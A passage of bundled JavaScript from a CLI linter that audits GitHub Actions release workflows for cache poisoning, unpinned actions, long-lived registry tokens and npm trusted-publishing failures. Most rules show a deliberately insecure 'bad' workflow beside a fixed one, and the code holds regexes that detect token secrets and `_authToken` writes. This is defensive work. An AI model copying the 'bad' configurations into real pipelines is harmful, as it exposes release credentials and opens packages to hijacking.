    why: "Caches are shared by the repository's workflows: a cache written by a compromised step anywhere on the default branch (a `pull_request_target` or `issue_comment` workflow, a dependency's install script) is restored into the job that can publish, and its code runs there (cache poisoning). actions/cache whose every key and restore key holds `github.run_id` is not reported (only this run can have saved it), and a composite action's `cache:` is read with the inputs its caller passes.",
    fix: 'Remove `cache:` (and actions/cache) from the publishing job; build in another job and hand the packages over with upload-artifact and download-artifact.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24, cache: npm }
      - run: npm publish
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24 }
      - run: npm publish
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                if (facts.jobPublishes(job).length === 0)
                    continue;
                for (const step of job.steps) {
                    const cache = (0,step_kinds/* cacheOf */.w7)(step);
                    if (!cache)
                        continue;
                    report(step.via ? (0,rule/* stepAnchor */.AK)(step) : cache, `${step.uses ?? 'A step'} restores a cache in job "${job.id}", which publishes: a cache poisoned by any other workflow run on this repository is unpacked here and runs with the power to publish.`, {
                        key: !step.via && cache !== step.usesNode,
                    });
                }
            }
        }
    },
};
const pypiReusableWorkflow = {
    id: 'pypi-reusable-workflow',
    severity: 'note',
    title: 'A reusable workflow (`workflow_call`) publishes to PyPI.',
    why: "PyPI's trusted publisher names the file that holds the publishing job (the token's `job_workflow_ref`), and it must be in the project's own repository: callers in other repositories cannot publish through this workflow, and the publisher must name this file, not the caller's.",
    fix: 'Register this file (not the calling workflow) as the trusted publisher on PyPI, and call it only from this repository; other repositories need a publishing job of their own.',
    bad: `on:
  workflow_call: {}
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on:
  workflow_dispatch: {}
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            const call = workflow.events.get('workflow_call');
            if (!workflow.events.has('workflow_call'))
                continue;
            const publish = workflow.jobs
                .flatMap((job) => facts.jobPublishes(job))
                .find((p) => (p.registry === 'pypi' || p.registry === 'testpypi') && !p.usesToken);
            if (!publish)
                continue;
            report(call ?? workflow.on ?? workflow.node, `This reusable workflow publishes to PyPI (${publish.tool}, line ${(0,rule/* stepAnchor */.AK)(publish.step).pos().line}). PyPI's trusted publisher must name this file, ${workflow.file.rel.split('/').pop() ?? ''}, and only workflows of this repository can publish through it: a caller in another repository gets "invalid-publisher".`, {
                key: true,
            });
        }
    },
};

;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/source.ts
const invalidYaml = {
    id: 'invalid-yaml',
    severity: 'error',
    title: 'A workflow or action file that is not valid YAML.',
    why: 'GitHub does not run a workflow it cannot parse, and shows the error only on the Actions tab: the release workflow silently stops existing, and the next release day starts with "why did nothing run?".',
    fix: 'Fix the YAML at the line shown (indentation, an unclosed quote or bracket, a tab, a `:` that needs quoting).',
    bad: `on: { workflow_dispatch: {} }
jobs:
  publish:
    runs-on: [ubuntu-latest
    steps:
      - run: echo "the list above is never closed"
`,
    good: `on: { workflow_dispatch: {} }
jobs:
  publish:
    runs-on: [ubuntu-latest]
    steps:
      - run: echo "the list above is closed"
`,
    check() { },
};
const ignoreDirective = {
    id: 'ignore-directive',
    severity: 'warning',
    title: 'A `# tokenless-ignore:` comment that names no known rule or gives no reason.',
    why: 'A misspelt rule id ignores nothing, so the finding stays while everybody believes it was accepted; an ignore without a reason leaves the next maintainer unable to tell an accepted risk from a silenced one.',
    fix: 'Write `# tokenless-ignore: RULE-ID reason` with an id from `tokenless doctor --list-rules` and the reason the risk is accepted.',
    bad: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: npm ci # tokenless-ignore: buld-in-publish-job
`,
    good: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: npm ci # tokenless-ignore: build-in-publish-job installs only our own workspace packages
`,
    check() { },
};

// EXTERNAL MODULE: ./packages/cli/src/doctor/repository.ts
var doctor_repository = __webpack_require__(39162);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/supply-chain.ts
// What a release workflow runs that is not in the repository: actions by a moving tag, and
// local actions or workflows that are not there.


const FIRST_PARTY = new Set(['actions', 'github']);
/** Why `uses` is unpinned ('' when it is pinned, local or GitHub's own). */
function unpinned(uses, repository) {
    if ((0,doctor_repository/* isOwnAction */.lE)(repository, uses))
        return '';
    if ((0,source_model/* localPath */.$S)(uses) !== undefined)
        return '';
    if (uses.startsWith('docker://'))
        return /@sha256:[0-9a-f]{64}$/i.test(uses) ? '' : 'a Docker tag';
    const [name, ref] = uses.split('@');
    const owner = name.split('/')[0].toLowerCase();
    if (FIRST_PARTY.has(owner))
        return '';
    if (ref === undefined || ref === '')
        return 'no version at all';
    if (/^[0-9a-f]{40}$/i.test(ref))
        return '';
    return /^v?\d+(\.\d+)*$/.test(ref) ? `the tag ${ref}` : `the tag or branch ${ref}`;
}
const unpinnedAction = {
    id: 'unpinned-action',
    severity: 'warning',
    title: 'A release workflow uses a third-party action (or reusable workflow) by tag or branch, not by commit SHA.',
    why: "A tag or branch moves whenever its owner (or whoever takes over the account) pushes it: the next release runs that code, in the workflow that holds the publish permission. Commit SHAs do not move. A job that holds `id-token: write` is said to be able to mint a publish token only in a workflow that publishes (or one such a workflow calls): npm's and PyPI's trusted publishers name one workflow file, and refuse a token minted in any other; a workflow that neither releases nor is called by one that publishes is not reported. A job that calls another repository's reusable workflow and grants it `id-token: write` can publish to npm through this file's trusted publisher, unseen. In a release workflow's jobs that neither publish, tag nor can mint a publish token (tests, lint, builds), the actions are listed in one note for the workflow. Actions of `actions/*` and `github/*` (GitHub's own), local actions, and this repository's own actions by name (`owner/<this repository>/path@v1`, when `path` is here) are not reported.",
    fix: 'Pin the full commit SHA and keep the version as a comment (`uses: owner/action@<40-hex sha> # v1.2.3`); Dependabot and Renovate keep such pins current.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@v5
      - uses: pypa/gh-action-pypi-publish@release/v1
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@v5
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            // npm's and PyPI's trusted publishers name one workflow file: a token minted in a workflow
            // that neither publishes nor is called by one that does is refused by the registry.
            // A reusable workflow of another repository that the job lets mint a token can publish to
            // npm through this file's trusted publisher (npm names the calling workflow), unseen here.
            const mints = facts.publishesInWorkflow(workflow) ||
                calledByPublisher(workflow, repository, facts) ||
                workflow.jobs.some((job) => job.uses !== undefined && job.called === undefined && (0,source_model/* jobGrantsIdToken */.Bb)(job) === true);
            const release = facts.isReleaseWorkflow(workflow) ||
                (mints && workflow.jobs.some((job) => (0,source_model/* jobGrantsIdToken */.Bb)(job) === true));
            if (!release)
                continue;
            const quiet = [];
            for (const job of workflow.jobs) {
                const places = [];
                const jobUses = job.uses?.str()?.trim();
                if (jobUses && job.uses)
                    places.push({ node: job.uses, uses: jobUses, job });
                for (const step of job.steps)
                    if (step.uses && step.usesNode)
                        places.push({ node: step.usesNode, uses: step.uses, job });
                const unpinnedPlaces = places
                    .map((place) => ({ ...place, why: unpinned(place.uses, repository) }))
                    .filter((place) => place.why !== '');
                // A job that neither releases nor can mint a publish token: one note for the workflow.
                if (!releasesOrMints(job, mints, facts)) {
                    quiet.push(...unpinnedPlaces);
                    continue;
                }
                for (const { node, uses, why } of unpinnedPlaces)
                    report(node, `\`${uses}\` runs whatever ${why} points to on the day of the release (its owner, or whoever takes over the account, can move it)${powers(job, mints)}.`, {
                        fix: `Pin the commit SHA that ${uses.split('@')[1] ?? 'the version you use'} points to today, and keep the version as a comment: \`uses: ${uses.split('@')[0]}@<40-hex sha> # ${uses.split('@')[1] ?? 'version'}\`.`,
                    });
            }
            if (quiet.length > 0)
                reportQuiet(quiet, report);
        }
    },
};
const LISTED = 8;
/** The unpinned actions of a release workflow's jobs that cannot release: one note, listing them. */
function reportQuiet(places, report) {
    const named = places.slice(0, LISTED).map(({ node, uses, job }) => {
        // A composite action's step: its own file and line.
        const line = node.pos().line;
        const where = node.file === places[0].node.file ? `line ${line}` : `${node.file.rel}:${line}`;
        return `\`${uses}\` (job "${job.id}", ${where})`;
    });
    const more = places.length > LISTED ? `, and ${places.length - LISTED} more` : '';
    const jobs = new Set(places.map((place) => place.job.id)).size;
    report(places[0].node, `${places.length === 1 ? 'One action runs' : `${places.length} actions run`} by a tag or branch that its owner (or whoever takes over the account) can move, in ${jobs === 1 ? 'a job' : `${jobs} jobs`} of this release workflow that neither release${jobs === 1 ? 's' : ''} nor can mint a publish token: ${named.join(', ')}${more}. What they build or cache can still reach the release.`, {
        severity: 'note',
        fix: 'Pin each to the commit SHA its tag points to today, and keep the version as a comment (`uses: owner/action@<40-hex sha> # v1.2.3`).',
    });
}
/** A job that publishes, tags or creates a release, or holds `id-token: write` where a token is accepted. */
function releasesOrMints(job, mints, facts) {
    if (job.called !== undefined || job.uses !== undefined)
        return true;
    if (mints && (0,source_model/* jobGrantsIdToken */.Bb)(job) === true)
        return true;
    return facts.jobPublishes(job).length > 0 || facts.jobTags(job).length > 0;
}
function powers(job, mints) {
    if (mints && (0,source_model/* jobGrantsIdToken */.Bb)(job) === true)
        return `, in job "${job.id}", which can mint a publish token`;
    return `, in a workflow that releases`;
}
/** Whether a workflow that publishes calls `workflow` (directly, or through other reusable ones). */
function calledByPublisher(workflow, repository, facts, seen = new Set([workflow])) {
    for (const caller of repository.workflows) {
        if (seen.has(caller) || !caller.jobs.some((job) => job.called === workflow))
            continue;
        seen.add(caller);
        if (facts.publishesInWorkflow(caller) || calledByPublisher(caller, repository, facts, seen))
            return true;
    }
    return false;
}
const missingLocalReference = {
    id: 'missing-local-reference',
    severity: 'error',
    title: 'A local action (`uses: ./path`) or reusable workflow that is not in the repository, or a called workflow without `workflow_call`.',
    why: 'GitHub fails the job when it reaches the step (or rejects the workflow for a missing reusable workflow): a renamed or deleted `action.yml` turns the next release into a failed run, often after the tag is already out.',
    fix: 'Point `uses:` at the folder that holds `action.yml` (or `action.yaml`), or at the workflow file under .github/workflows, relative to the repository root.',
    bad: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - uses: ./.github/actions/setup-that-was-renamed
`,
    good: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci
`,
    check({ repository, report }) {
        for (const { step, job, ref, notReusable } of repository.missing) {
            const node = step?.via?.usesNode ?? step?.usesNode ?? job?.uses;
            if (!node)
                continue;
            if (notReusable) {
                report(node, `${ref} has no \`workflow_call\` trigger, so it cannot be called as a reusable workflow: GitHub rejects this workflow before any job starts.`, {
                    fix: `Add \`workflow_call:\` to the \`on:\` of ${ref}.`,
                });
                continue;
            }
            const what = step ? `no action.yml or action.yaml in ${ref}` : `no workflow file ${ref}`;
            report(node, `${ref} is not in this repository (${what}): GitHub fails ${step ? 'the job when it reaches this step' : 'the run before any job starts'}.`);
        }
    },
};

;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/tokens.ts
// Registry credentials: long-lived tokens, setup-node's placeholder token, and an npm too old
// to do trusted publishing.





const TOKEN_SECRET = /(npm|pypi|twine|node_auth)/i;
const PROXY_OPTIONS = {
    severity: 'note',
    fix: 'Check what this token can do on that registry or proxy and keep it in an environment only the publishing job uses; if the service accepts short-lived credentials (OIDC), use those instead.',
};
/** Inputs that take a token the suite accepts on purpose (npm's OIDC cannot deprecate). */
const ALLOWED_TOKEN_INPUTS = new Set(['npm-deprecate-token']);
function registryOfName(name) {
    return /pypi|twine|uv_publish|poetry|hatch|flit|maturin|pdm/i.test(name) ? 'PyPI' : 'npm';
}
function walk(node, places, visit, key, place = {}) {
    const here = (node.node && places.get(node.node)) || place;
    if (here.job && (0,job_conditions/* neverRuns */.Z$)(here.job))
        return;
    visit(node, key, here);
    if (node.isMap())
        for (const [name, value] of node.entries())
            walk(value, places, visit, name, here);
    else if (node.isSeq())
        for (const item of node.items())
            walk(item, places, visit, undefined, here);
}
/** The jobs and steps of the workflows read from `file`, by their YAML node. */
function placesIn(workflows, file) {
    const places = new Map();
    for (const workflow of workflows) {
        if (workflow.file !== file)
            continue;
        for (const job of workflow.jobs) {
            places.set(job.node.node, { job });
            for (const step of job.steps)
                if (!step.via)
                    places.set(step.node.node, { job, step });
        }
    }
    return places;
}
const LOCAL_HOST = /^(localhost|127\.[\d.]+|0\.0\.0\.0|\[::1\]|::1)$/i;
/**
 * The upload goes to a server of the job itself: localhost, or a service container (by its name,
 * or through `job.services.<name>.ports`): a password for it is no registry token.
 */
function uploadsToLocalServer(place) {
    const { job, step } = place;
    if (!job)
        return false;
    const env = step ? (0,step_kinds/* stepEnv */.WH)(step) : new Map();
    if (!step)
        for (const [name, value] of job.env?.entries() ?? [])
            env.set(name, value);
    const urls = [
        ...['TWINE_REPOSITORY_URL', 'UV_PUBLISH_URL', 'PDM_PUBLISH_REPO', 'MATURIN_REPOSITORY_URL'].map((name) => env.get(name)?.str()),
        ...['repository-url', 'repository_url'].map((name) => step?.with?.get(name)?.str()),
    ].filter((url) => url !== undefined);
    const services = new Set(job.node
        .get('services')
        ?.entries()
        .map(([name]) => name) ?? []);
    return urls.some((url) => {
        const host = /^\s*https?:\/\/([^/:]+|\[[^\]]+\])/i.exec(url)?.[1];
        return (host !== undefined &&
            (LOCAL_HOST.test(host) || services.has(host) || /job\.services\./.test(url)));
    });
}
/** setup-node's `registry-url` in the job, when it names a registry other than npm's. */
function otherNpmRegistry(place) {
    if (!place.job)
        return undefined;
    const found = setupNodeSteps(place.job)
        .map((setup) => setup.with?.get('registry-url'))
        .filter((url) => url !== undefined && url.str() !== undefined);
    if (found.length === 0)
        return undefined;
    if (found.some((url) => url.str().includes('${{') || (0,src_registries/* registryOfUrl */.S6)(url.str()) === 'npm'))
        return undefined;
    return { url: found[0].str().trim(), line: found[0].pos().line };
}
/** `<what> <url>, the registry setup-node's registry-url names...`: what the token is for. */
function proxyTokenMessage(what, registry) {
    return `${what} ${registry.url}, the registry setup-node's \`registry-url\` names (line ${registry.line}), not registry.npmjs.org: it is that registry's (or publish proxy's) token, not an npm token, and what it can do is what that service lets it do.`;
}
/**
 * A token written into npm's configuration: `//host/:_authToken=...` in an .npmrc line, or by
 * `npm config set '//host/:_authToken'=...` (the key quoted) and `npm config set //host/:_authToken x`.
 */
const WRITES_AUTH_TOKEN = /_authToken['"]?\s*=|\bconfig\s+set\s+['"]?\S*_authToken['"]?\s+[^\s&|;]/;
const longLivedToken = {
    id: 'long-lived-token',
    severity: 'error',
    title: 'A long-lived registry token is used (NPM_TOKEN, NODE_AUTH_TOKEN, PYPI_API_TOKEN, TWINE_PASSWORD, an .npmrc `_authToken`).',
    why: "A registry token lives until someone revokes it: when it expires or is rotated, npm answers the publish with E404 Not Found (not an auth error) and the release dies looking like a missing package; while it lives, any step that can read it (a test dependency, an action) can copy it and publish anything, from anywhere. A token for another registry or publish proxy (setup-node's `registry-url` is not registry.npmjs.org) is reported as a note; a password for a server of the job itself (localhost, a service container) and tokens in a job that can never run (it requires a tag ref no trigger gives) are not reported.",
    fix: 'Register a trusted publisher on the registry (npm: package settings → Trusted publishing; PyPI: project → Publishing) for this repository, workflow file and environment; give the publish job `id-token: write`; remove the token from the workflow and delete the secret.',
    bad: `on: { release: { types: [published] } }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24, registry-url: 'https://registry.npmjs.org' }
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
`,
    good: `on: { release: { types: [published] } }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24 }
      - run: npm publish
`,
    check({ repository, report }) {
        for (const file of repository.files) {
            const places = placesIn(repository.workflows, file);
            for (const document of file.documents) {
                const reported = new Set();
                const once = (node, needle, message, options = {}) => {
                    const position = needle === undefined ? node.pos() : node.find(needle);
                    const key = `${position.line}:${position.column}`;
                    if (reported.has(key))
                        return;
                    reported.add(key);
                    report(node, message, { needle, ...options });
                };
                walk(document, places, (node, key, place) => {
                    const text = node.str();
                    if (text === undefined || (key !== undefined && ALLOWED_TOKEN_INPUTS.has(key)))
                        return;
                    const local = () => uploadsToLocalServer(place);
                    const proxy = () => otherNpmRegistry(place);
                    // A token variable set from a secret or a literal: `NODE_AUTH_TOKEN: ${{ secrets.X }}`.
                    if (key !== undefined &&
                        (0,step_kinds/* isTokenVariable */.U_)(key) &&
                        text.trim() !== '' &&
                        !(0,step_kinds/* isGithubToken */.VH)(text)) {
                        if (local())
                            return;
                        const literal = (0,expressions/* scanExpressions */.BX)(text).found.length === 0 && !/^\$/.test(text.trim());
                        const registry = registryOfName(key);
                        const other = registry === 'npm' && !literal ? proxy() : undefined;
                        if (other) {
                            once(node, undefined, proxyTokenMessage(`${key} hands a long-lived token (${text.trim()}) to`, other), PROXY_OPTIONS);
                            return;
                        }
                        once(node, undefined, literal
                            ? `${key} is set to a literal value: a ${registry} token written into the workflow file is readable by anyone who can read the repository, and it stops working (E404 on npm's upload, 403 on PyPI's) the day it expires or is revoked.`
                            : `${key} hands a long-lived ${registry} token (${text.trim()}) to the publish. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}; while it lives, any step that can read it can publish anything.`);
                        return;
                    }
                    for (const { expression, start, end } of (0,expressions/* scanExpressions */.BX)(text).found) {
                        const span = { text: text.slice(start, end) };
                        for (const path of (0,context_references/* contextReferences */.Q)(expression, 'expression')) {
                            const secret = /^secrets\.(.+)$/.exec(path)?.[1];
                            if (!secret || !TOKEN_SECRET.test(secret) || /github/i.test(secret))
                                continue;
                            const registry = registryOfName(secret);
                            const other = registry === 'npm' ? proxy() : undefined;
                            if (other) {
                                once(node, span.text, proxyTokenMessage(`${span.text} is a long-lived token for`, other), PROXY_OPTIONS);
                                continue;
                            }
                            once(node, span.text, `${span.text} is a long-lived ${registry} token. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}, and the release dies halfway; while it lives, any step that can read it can copy it and publish anything.`);
                        }
                    }
                    if (key === 'run' && WRITES_AUTH_TOKEN.test(text)) {
                        const line = text
                            .split('\n')
                            .find((each) => WRITES_AUTH_TOKEN.test(each))
                            .trim();
                        once(node, line, 'The script writes a registry token into .npmrc (`_authToken=`): npm then uses this token instead of trusted publishing, and when it expires the publish fails with E404 Not Found.');
                    }
                });
            }
        }
    },
};
/**
 * `${{ inputs.x }}` in a composite action's step, read from the `with:` of the step that uses the
 * action, or the input's default.
 */
function resolveActionInput(step, text) {
    const name = text === undefined ? undefined : /^\$\{\{\s*inputs\.([\w-]+)\s*\}\}$/.exec(text.trim())?.[1];
    if (name === undefined || !step.via || !step.action)
        return text;
    const given = step.via.with?.get(name)?.str();
    if (given !== undefined)
        return given;
    return (step.action.inputs
        .find((input) => input.name === name)
        ?.node.get('default')
        ?.str() ?? text);
}
/** The setup-node steps of a job. */
function setupNodeSteps(job) {
    return job.steps.filter((step) => (0,source_model/* actionName */.aM)(step.uses) === 'actions/setup-node');
}
const setupNodeRegistryUrl = {
    id: 'setup-node-registry-url',
    severity: 'error',
    title: "setup-node's `registry-url` in a job that publishes to npm through trusted publishing.",
    why: 'With `registry-url`, setup-node writes an .npmrc with `_authToken=${NODE_AUTH_TOKEN}` and sets NODE_AUTH_TOKEN to the placeholder `XXXXX-XXXXX-XXXXX-XXXXX`. When the OIDC exchange fails (no trusted publisher yet, a renamed workflow file, a first publish) npm falls back to that placeholder without a word, and the failure shows as E401/E404 on the upload instead of an OIDC error; tokenless publish-oidc refuses to run with it.',
    fix: 'Remove `registry-url` from setup-node in the publishing job: npm reaches registry.npmjs.org by default and trusted publishing needs no .npmrc.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with:
          node-version: 24
          registry-url: https://registry.npmjs.org
      - run: npm publish
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with:
          node-version: 24
      - run: npm publish
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                const oidc = facts.jobPublishes(job).filter((p) => p.registry === 'npm' && !p.usesToken);
                if (oidc.length === 0)
                    continue;
                for (const setup of setupNodeSteps(job)) {
                    const url = setup.with?.get('registry-url');
                    const value = url?.str();
                    if (!url || !value || /npm\.pkg\.github\.com/.test(value))
                        continue;
                    const publishOidc = oidc.some((p) => p.publishOidc);
                    report(setup.via ? (0,rule/* stepAnchor */.AK)(setup) : url, publishOidc
                        ? `setup-node's \`registry-url\` writes an .npmrc with the placeholder token XXXXX-XXXXX-XXXXX-XXXXX in job "${job.id}": tokenless publish-oidc refuses to publish while a token is in reach, so this release stops here.`
                        : `setup-node's \`registry-url\` writes an .npmrc whose token is the placeholder XXXXX-XXXXX-XXXXX-XXXXX in job "${job.id}", which publishes through trusted publishing (${oidc[0].tool}): whenever the OIDC exchange fails, npm silently uses the placeholder and the publish fails with E401/E404 instead of saying why.`, {
                        key: !setup.via,
                        severity: publishOidc ? 'error' : 'warning',
                    });
                }
            }
        }
    },
};
/** Node versions as setup-node reads them: the lowest version the spec can resolve to. */
function nodeVersionOf(spec) {
    const text = spec.trim().replace(/^v/, '');
    if (/^(latest|node|current|lts\/\*|lts\/krypton|lts\/-0)$/i.test(text))
        return 'new';
    const codenames = {
        'lts/jod': 22,
        'lts/iron': 20,
        'lts/hydrogen': 18,
        'lts/gallium': 16,
        'lts/fermium': 14,
    };
    const codename = codenames[text.toLowerCase()];
    if (codename !== undefined)
        return { major: codename, minor: 99, patch: 0, exact: false };
    const match = /^(\d+)(?:\.(\d+|x))?(?:\.(\d+|x))?$/i.exec(text);
    if (!match)
        return undefined;
    const minor = match[2] === undefined || match[2] === 'x' ? undefined : Number(match[2]);
    const patch = match[3] === undefined || match[3] === 'x' ? undefined : Number(match[3]);
    return {
        major: Number(match[1]),
        minor: minor ?? 99,
        patch: patch ?? 99,
        exact: minor !== undefined,
    };
}
/** Whether the npm a Node version bundles is older than 11.5.1 (Node below 24.5). */
function npmTooOldFor(version) {
    if (version === 'new')
        return false;
    return version.major < 24 || (version.major === 24 && version.exact && version.minor < 5);
}
/** Setup actions that install tools but not Node (or not by default). */
const NOT_NODE_SETUP = /^(actions\/setup-(?!node$)[\w-]+|pnpm\/action-setup|astral-sh\/setup-uv)$/;
/**
 * A remote action (not in this repository) that may set up Node: one whose name says it sets
 * up tools (`org/config/.github/setup`, `volta-cli/action`), other than those known not to.
 */
function setsUpToolsRemotely(step) {
    const uses = step.uses;
    if (uses === undefined || step.via || /^(\.|\$\/|docker:\/\/)/.test(uses))
        return false;
    const name = (0,source_model/* actionName */.aM)(uses);
    if (name === 'actions/setup-node' || NOT_NODE_SETUP.test(name))
        return false;
    return /setup|volta|mise|asdf|proto|toolchain/i.test(name);
}
/** The Node version the repository pins: .nvmrc, .node-version, or package.json's volta.node. */
function pinnedNodeVersion(files) {
    for (const file of ['.nvmrc', '.node-version']) {
        const spec = files
            .read(file)
            ?.split('\n')
            .map((line) => line.replace(/#.*/, '').trim())
            .find((line) => line !== '');
        if (spec !== undefined)
            return { file, spec };
    }
    try {
        const manifest = JSON.parse(files.read('package.json') ?? '{}');
        const spec = manifest.volta?.node;
        if (typeof spec === 'string')
            return { file: 'package.json (volta.node)', spec };
    }
    catch {
        // not JSON: nothing pinned there
    }
    return undefined;
}
/** An `npm install -g npm@<version>` (or `npx npm@x`) giving npm >= 11.5.1. */
function upgradesNpm(step, scripts) {
    return (0,step_kinds/* stepCommands */.Bs)(step, scripts).some((command) => {
        const words = command.words;
        if (words[0] === 'corepack' && words.some((word) => /^npm@/.test(word)))
            return npmSpecOk(words.find((word) => /^npm@/.test(word)));
        if (words[0] !== 'npm' && words[0] !== 'pnpm' && words[0] !== 'yarn')
            return false;
        if (!words.some((word) => word === '-g' || word === '--global' || word === 'global'))
            return false;
        const spec = words.slice(1).find((word) => word === 'npm' || word.startsWith('npm@'));
        return spec !== undefined && npmSpecOk(spec);
    });
}
function npmSpecOk(spec) {
    const version = spec.slice('npm@'.length).replace(/^[\^~>=v]+/, '');
    if (spec === 'npm' || version === '' || /^(latest|next|\$|\$\{)/.test(version))
        return true;
    const [major = 0, minor = 0, patch = 0] = version
        .split('.')
        .map((part) => Number.parseInt(part, 10) || 0);
    return major > 11 || (major === 11 && (minor > 5 || (minor === 5 && patch >= 1)));
}
const npmTooOld = {
    id: 'npm-too-old',
    severity: 'error',
    title: 'npm publishes through trusted publishing with an npm older than 11.5.1 (Node below 22.14, or Node 22 without an npm upgrade).',
    why: "npm does the OIDC exchange only from 11.5.1 on; Node 22 and older bundle npm 10, and the runner's own Node is 20. An older npm never tries OIDC and the publish fails with ENEEDAUTH or E404, nothing about OIDC in the log. npm documents Node 22.14 as the minimum for trusted publishing. When no setup-node runs but a remote action that sets up tools does, the Node the repository pins (.nvmrc, .node-version, package.json `volta.node`) decides: a note when its npm is too old, nothing when it is new enough or nothing is pinned.",
    fix: 'Use `node-version: 24` in setup-node, or add `run: npm install -g npm@^11.5.1` before the publish (on Node 22.14 or later).',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 22 }
      - run: npm publish --provenance --access public
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 22 }
      - run: npm install -g npm@^11.5.1
      - run: npm publish --provenance --access public
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                const publish = facts
                    .jobPublishes(job)
                    .find((p) => p.registry === 'npm' &&
                    !p.usesToken &&
                    !p.publishOidc &&
                    /^(npm publish|changeset publish|changesets\/action|JS-DevTools)/.test(p.tool));
                if (!publish || job.container)
                    continue;
                const before = job.steps.slice(0, Math.max(0, job.steps.indexOf(publish.step)));
                const upgraded = before.some((step) => upgradesNpm(step, repository.packageScripts)) ||
                    upgradesNpm(publish.step, repository.packageScripts);
                const setup = setupNodeSteps(job)
                    .filter((step) => before.includes(step))
                    .pop();
                const line = (0,rule/* stepAnchor */.AK)(publish.step).pos().line;
                if (!setup) {
                    if (upgraded)
                        continue;
                    const remote = before.find((step) => setsUpToolsRemotely(step));
                    if (remote) {
                        // The action may install Node: what the repository pins says which, if anything.
